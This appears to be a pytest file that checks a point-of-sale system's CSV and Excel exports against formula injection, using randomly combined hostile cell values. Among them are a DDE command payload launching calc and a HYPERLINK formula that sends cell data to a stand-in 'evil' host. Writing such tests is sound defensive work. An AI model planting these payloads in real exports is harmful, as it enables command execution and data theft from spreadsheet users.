"""No cell of an export is ever a formula, and every cell reads back as it was (SE-11).

CI writes a share of the 100,000 cells; ``KASIR_LONG=1`` writes them all.
"""

from __future__ import annotations

import csv
import io
import os
import random
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pos.core.day import Span
from pos.core.export import About, Column, Phrase, Speech
from pos.core.money import Money
from pos.core.reckoning import Reckoning
from pos.core.sale import Sale, State
from pos.exports.csvfile import CsvScribe
from pos.exports.text import is_risky, neutral, restored
from pos.exports.words import read_words
from pos.exports.xlsx import XlsxScribe
from tests.exports.reading import csv_rows, is_date, money, rupiah, sheets
from tests.fakes.shop import RESOURCES
from tests.store.sales import DAY, NOON, intent

JAKARTA = ZoneInfo("Asia/Jakarta")
LONG = os.environ.get("KASIR_LONG") == "1"
CELLS = 100_000 if LONG else 8_000
TEXTS_A_SALE = 5  # number, cashier, note, code, reference: what people and providers can fill
ABOUT = About(
    span=Span.day(DAY), zone=JAKARTA, cutoff_hour=0, made_at=NOON, made_by="=cmd|'/c calc'!A0"
)
SPEECH = Speech(words=read_words(RESOURCES, "id"), shop="=1+1", outlets={"ALFAMART": "@Alfamart"})

STARTS: list[str] = [*"=+-@\t\r\n\x00'\" ;,|%", "＝", "＋", "－", "＠", "\ufeff", "\u200b", "\xa0"]  # noqa: RUF001
MIDDLES: list[str] = [
    *(
        "cmd|'/c calc'!A0",
        "1+1",
        'HYPERLINK("http://evil/?"&A1)',
        "SUM(1,2)",
        "{=1}",
        "IMPORTXML(A1)",
    ),
    *(
        "",
        "2026-11-22",
        "0012",
        "1e5",
        "TRUE",
        "_x0041_",
        "Rp 5.000",
        "\ud7ff",
        "😀",
        "<b>&amp;",
        "\x01\x1f",
    ),
    *("a\nb", "a\r\nb", 'say "hi"', "x;=1", "x\t=1", "\ufffe\uffff", "meja 4", "'", "''='"),
]


def hostile(chance: random.Random) -> str:
    starts = "".join(chance.choices(STARTS, k=chance.randrange(4)))
    return starts + chance.choice(MIDDLES) + chance.choice(["", "", *STARTS])


def a_sale(count: int, texts: list[str]) -> Sale:
    number, cashier, note, code, reference = texts
    return replace(
        intent(f"K1-{count:06d}"),
        number=number,
        cashier=cashier,
        note=note,
        code=code,
        reference_id=reference,
        state=State.PAID,
        paid_at=NOON,
        paid_date=DAY,
        amount=Money.rupiah(count + 1),
        fees=Money(count * 7 + 1),
    )


def figures_of(sales: list[Sale]) -> Reckoning:
    sums = Reckoning(ABOUT.span, zone=JAKARTA, cutoff_hour=0)
    for sale in sales:
        sums.add(sale)
    return sums


@pytest.fixture(scope="module")
def sales() -> list[Sale]:
    chance = random.Random(11)
    rows = range(CELLS // TEXTS_A_SALE)
    return [a_sale(row, [hostile(chance) for _ in range(TEXTS_A_SALE)]) for row in rows]


def texts_of(sale: Sale) -> list[str]:
    return [sale.number, sale.cashier, sale.note, sale.code or "", sale.reference_id]


TEXT_COLUMNS = (Column.NUMBER, Column.CASHIER, Column.NOTE, Column.CODE, Column.REFERENCE_ID)


@pytest.mark.slow
def test_a_csv_runs_nothing_and_reads_back(sales: list[Sale], tmp_path: Path) -> None:
    file = tmp_path / "kasir.csv"
    scribe = CsvScribe(file, ABOUT)
    scribe.add(sales)
    scribe.finish(figures_of(sales).figures())
    content = file.read_bytes()
    raw = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True)
    for fields in raw:
        for field in fields:
            assert field[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "\0"}, field
    for sale, row in zip(sales, csv_rows(content), strict=True):
        assert [row[column.value] for column in TEXT_COLUMNS] == texts_of(sale)
        assert rupiah(row["paid"]) == sale.amount
        assert rupiah(row["fees"]) == sale.fees


@pytest.mark.slow
def test_a_csv_runs_nothing_where_lists_are_parted_by_semicolons(sales: list[Sale]) -> None:
    stream = io.StringIO(newline="")
    CsvScribe(stream, ABOUT).add(sales)
    for part in re.split(r"[;\t\r\n]", stream.getvalue()):
        assert part.lstrip(' "\xa0\ufeff\u200b')[:1] not in {"=", "+", "-", "@"}, part


@pytest.mark.slow
def test_a_workbook_holds_no_formula_and_reads_back(sales: list[Sale], tmp_path: Path) -> None:
    file, room = tmp_path / "kasir.xlsx", tmp_path / "room"
    room.mkdir()
    scribe = XlsxScribe(file, ABOUT, speech=SPEECH, room=room)
    scribe.add(sales)
    scribe.finish(figures_of(sales).figures())
    assert not list(room.iterdir())
    head, *rows = sheets(file)[SPEECH.words.phrases[Phrase.SALES]]
    place = {column: number for number, column in enumerate(Column)}
    assert len(head) == len(Column)
    for sale, row in zip(sales, rows, strict=True):
        assert [row[place[column]] or "" for column in TEXT_COLUMNS] == texts_of(sale)
        assert money(row[place[Column.PAID]]) == sale.amount
        assert money(row[place[Column.FEES]]) == sale.fees
        assert is_date(row[place[Column.MADE_AT]])
        assert is_date(row[place[Column.PAID_DATE]])
        assert row[place[Column.OUTLET]] == "@Alfamart"


def test_a_workbook_marks_what_would_run_as_plain_text(tmp_path: Path) -> None:
    scribe = XlsxScribe(tmp_path / "a.xlsx", ABOUT, speech=SPEECH, room=tmp_path)
    scribe.add([a_sale(1, ["K1-000001", "=1+1", "meja 4", "+62", "r"])])
    scribe.finish(figures_of([]).figures())
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    sheet = book.worksheets[1]
    marked = {cell.value: bool(cell.quotePrefix) for cell in sheet[2] if cell.value}
    assert [marked[text] for text in ("=1+1", "+62")] == [True, True]
    assert [marked[text] for text in ("meja 4", "K1-000001")] == [False, False]
    book.close()


def test_no_sen_is_lost_where_a_number_of_a_workbook_would_lose_one(tmp_path: Path) -> None:
    sale = replace(
        a_sale(1, ["n", "c", "", "", "r"]), amount=Money(10**17 + 1), fees=Money(10**14 + 55)
    )
    scribe = XlsxScribe(tmp_path / "a.xlsx", ABOUT, speech=SPEECH, room=tmp_path)
    scribe.add([sale])
    scribe.finish(figures_of([sale]).figures())
    row = sheets(tmp_path / "a.xlsx")["Transaksi"][1]
    place = list(Column).index
    assert row[place(Column.PAID)] == "1000000000000000.01"
    assert money(row[place(Column.FEES)]) == Money(10**14 + 55)


def test_a_day_before_the_format_began_is_written_as_text(tmp_path: Path) -> None:
    old = datetime(1870, 1, 1, tzinfo=UTC)
    sale = replace(a_sale(1, ["n", "c", "", "", "r"]), created_at=old, paid_at=NOON + timedelta(1))
    scribe = XlsxScribe(tmp_path / "a.xlsx", ABOUT, speech=SPEECH, room=tmp_path)
    scribe.add([sale])
    scribe.finish(figures_of([]).figures())
    row = sheets(tmp_path / "a.xlsx")["Transaksi"][1]
    assert row[list(Column).index(Column.MADE_AT)].startswith("1870-01-01")


marks = st.text(alphabet=st.sampled_from([*"=+-@\t\r\n\x00;,'\" a0|", "＝", "\ufeff"]), max_size=9)  # noqa: RUF001


@settings(max_examples=20_000 if LONG else 1_000)
@given(st.one_of(marks, st.text(max_size=12)))
@example("'=1")
@example("''=1")
@example("a;'=1;-")
@example("\t\r\n=")
def test_what_is_neutralised_runs_nowhere_and_is_told_back(text: str) -> None:
    written = neutral(text)
    assert restored(written) == text
    assert is_risky(text) == (written != text)
    for part in re.split(r"[;\t\r\n]", written):
        begin = part.lstrip(' "\xa0\u200b\ufeff')
        assert begin[:1] not in {"=", "+", "-", "@", "\x00", "＝", "＋", "－", "＠"}  # noqa: RUF001


def test_plain_words_stay_as_they_are() -> None:
    for text in ("meja 4", "kopi-susu", "a+b", "Rp 5.000", "'t Hart", "jam 3; antar", "O'Neil"):
        assert neutral(text) == text
